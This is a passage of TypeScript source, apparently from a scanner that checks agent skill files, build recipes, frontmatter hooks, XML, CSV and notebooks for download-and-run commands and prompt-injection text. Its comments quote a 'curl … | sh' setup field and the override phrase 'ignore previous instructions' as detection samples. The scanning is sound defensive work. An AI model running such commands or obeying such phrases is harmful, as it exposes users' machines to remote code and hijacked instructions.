 * A recipe's command lines (a Dockerfile's `ADD --checksum=… URL` then `RUN sh FILE`) are read as
 * the commands they are, a digest check or a pin counted: the prose download-and-run rules do not
 * judge them again as words of setup instructions (their other threats, an injected sentence in a
 * RUN line the agent reads, stay)
 */
function dropRecipeSteps(run: Run, from: number, to: number, covered: Set<number>): void {
  const downloadExec = new Set(
    run.rules.filter((r) => r.threat === 'download-exec').map((r) => r.id),
  );
  const kept = run.out.filter(
    (f, i) => i < from || i >= to || !downloadExec.has(f.ruleId) || !covered.has(f.line),
  );
  run.out.length = 0;
  run.out.push(...kept);
}

function commandFindings(
  run: Run,
  prepared: PreparedSegment[],
  st: Structure,
  markdown: boolean,
): Set<number> | undefined {
  const { ctx, file } = run;
  const text = file.text;
  inlineCommands(run, prepared);
  if (markdown) fenceFindings(run, st.fences);
  // install commands in OpenClaw frontmatter run on the user's machine when the skill is installed
  if (markdown && /(?:^|\/)SKILL\.md$/i.test(file.path))
    for (const c of installCommands(text))
      run.out.push(
        ...ctx.embedded(c.command, 'bash', { line: c.line, decodedFrom: 'frontmatter-install' }),
      );
  // hook commands in a skill's, subagent's or command's frontmatter run on the agent's events
  if (markdown)
    for (const c of hookCommands(text))
      run.out.push(
        ...ctx.embedded(c.command, 'bash', { line: c.line, decodedFrom: 'frontmatter-hook' }),
      );
  // any other frontmatter field named like a command that holds one (`setup: curl … | sh`)
  if (markdown)
    for (const c of frontmatterCommandFields(text))
      if (looksLikeShell(c.command))
        run.out.push(
          ...ctx.embedded(c.command, 'bash', { line: c.line, decodedFrom: 'frontmatter-command' }),
        );
  // indentation makes a code block in markdown only (HTML/XML/SVG indent everything)
  if (markdown && !run.html) indentedFindings(run, st.fences);
  if (markdown) htmlCodeFindings(run, st.fences);
  // an XML file's element texts may be command lines a build tool runs (a Maven exec plugin's
  // `<argument>`, an MSBuild `<Exec>`), as a text file's lines and quoted values may
  if (!markdown || /\.xml$/i.test(file.path)) {
    const covered = recipeFindings(run);
    textCommandFindings(run, dialectText(file.path, file.text), 1, undefined, covered);
    return covered;
  }
  return undefined;
}

/**
 * The commands of a build or task recipe file (Makefile, justfile, Dockerfile, dev container, VS
 * Code tasks, CI workflow, pre-commit, Taskfile, tox.ini, Procfile: recipes.ts), each recipe read
 * whole as the script its tool runs, lines kept: threats count, capabilities are not observed
 * from them (nothing says the agent runs them), as for the command lines of other text files. A
 * task that runs by itself when the folder is opened is reported by the `recipe: autorun` rules.
 * Returns the lines read here, which the line scan leaves alone.
 */
function recipeFindings(run: Run): Set<number> | undefined {
  const { ctx, file } = run;
  if (ctx.depth) return undefined;
  const r = recipes(file.path, file.text, ctx.sibling, ctx.paths?.());
  if (!r) return undefined;
  let n = 0;
  for (const s of r.scripts.slice(0, 500)) {
    if ((++n & 15) === 0) checkDeadline(ctx);
    run.out.push(
      ...ctx
        .embedded(s.text, s.language, { line: s.line, decodedFrom: 'recipe' })
        .filter(keepFor('reference')),
    );
  }
  if (r.autorun.length)
    for (const rule of run.rules) {
      if ((rule.match as { recipe?: string }).recipe !== 'autorun') continue;
      for (const a of r.autorun.slice(0, 20))
        run.out.push(
          findingFor(rule, {
            file: file.path,
            line: a.line,
            evidence: clip(a.command, 200),
            message: `${rule.message.replace(/\.$/, '')} (${a.label ? `task "${clip(a.label, 60)}": ` : ''}${clip(a.command, 120)})`,
          }),
        );
    }
  return r.covered;
}

/**
 * A text file that is not markdown: prose written as plain text (`.txt`, `.rst`, a prompt file) is
 * read as prose, sentences wrapping over lines and quotes judged by what the sentence says; any
 * other keeps its lines (`index-url = …` in pip.conf), its quoted values judged by their keys
 * (data-quotes.ts).
 */
function textSegment(filePath: string, text: string): Segment {
  const ext = /\.([\w-]+)$/.exec(filePath)?.[1]?.toLowerCase() ?? '';
  if (PROSE_TEXT.has(ext)) return { text, start: 0, hidden: false, carrier: 'prose' };
  // source code of a language we do not analyze: its doc comments that describe a declaration
  // (`/// Sends the token to the server.`) are the code's documentation, not text for the agent
  if (OTHER_CODE_EXTS.has(ext))
    return {
      text: blankDocDescriptions(text),
      start: 0,
      hidden: false,
      carrier: 'text',
      quotes: 'lines',
    };
  // a table's rows (`"ignore previous instructions",injection`) are samples: quotes stay mentions
  if (TABLE_TEXT.has(ext))
    return { text: cellsApart(text, ext), start: 0, hidden: false, carrier: 'text' };
  const quotes = YAML_TEXT.has(ext) ? 'yaml' : 'lines';
  return { text, start: 0, hidden: false, carrier: 'text', quotes };
}

const PROSE_TEXT = new Set(['txt', 'text', 'rst', 'adoc', 'asciidoc', 'org', 'prompt']);
const YAML_TEXT = new Set(['json', 'jsonc', 'json5', 'yaml', 'yml']);
const TABLE_TEXT = new Set(['csv', 'tsv', 'jsonl', 'ndjson']);

/**
 * A CSV/TSV row's cells are separate values (a guideline table's "Issue", "Do", "Don't" and code
 * columns), not one sentence: each unquoted separator becomes a line break, so a span does not run
 * from a word in one column to a word in the next ("paste … password" in a paste-on-inputs row).
 * The length stays, so offsets and lines are the file's. A sentence inside one cell is read whole.
 */
function cellsApart(text: string, ext: string): string {
  const sep = ext === 'tsv' ? '\t' : ext === 'csv' ? ',' : undefined;
  if (!sep) return text;
  let out = '';
  let quoted = false;
  for (const c of text) {
    if (c === '"') quoted = !quoted;
    else if (c === '\n') quoted = false;
    out += c === sep && !quoted ? '\n' : c;
  }
  return out;
}

function validate(m: Record<string, unknown>): string[] {
  return validateProseMatch(m);
}

export const markdownAnalyzer: Analyzer = {
  languages: ['markdown'],
  validateMatch: validate,
  analyze: (file, rules, ctx) => analyzeProse(file, rules, ctx, true),
};

export const textAnalyzer: Analyzer = {
  languages: ['text'],
  validateMatch: validate,
  // HTML/XML/SVG text files carry the same hidden carriers (comments, hidden elements) as markdown
  analyze: (file, rules, ctx) => {
    const found = analyzeProse(file, rules, ctx, /\.(?:html?|xhtml|xml|svg)$/i.test(file.path));
    // a notebook's code cells run when its cells are run: analysed as the code they are
    if (!ctx.depth && /\.ipynb$/i.test(file.path))
      for (const c of notebookCode(file.text))
        found.push(...ctx.embedded(c.text, c.language, { line: c.line }));
    return found;
  },
};
